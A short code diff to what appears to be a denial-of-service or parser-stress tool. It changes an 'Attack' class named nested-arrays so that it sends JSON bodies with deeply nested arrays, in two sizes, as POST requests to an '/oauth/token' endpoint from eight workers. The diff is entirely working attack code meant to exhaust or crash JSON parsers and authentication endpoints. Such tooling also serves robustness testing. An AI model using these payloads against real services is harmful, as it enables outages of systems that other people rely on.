@@ -16,11 +16,13 @@ class NestedArrays(Attack):
 
     name = "nested-arrays"
     workers = 8
-    body = b'{"grant_type":' + nested(500, 16_000) + b"}"
+    #: As large as may be, and larger.
+    bodies = [b'{"grant_type":' + nested(500, size) + b"}" for size in (7_900, 16_000)]
     pointless = (404, 405)
 
     def work(self, sender):
-        sender.send("POST", "/oauth/token", self.body, {"Content-Type": "application/json"})
+        for body in self.bodies:
+            sender.send("POST", "/oauth/token", body, {"Content-Type": "application/json"})
 
 
 class DeepBodies(Attack):
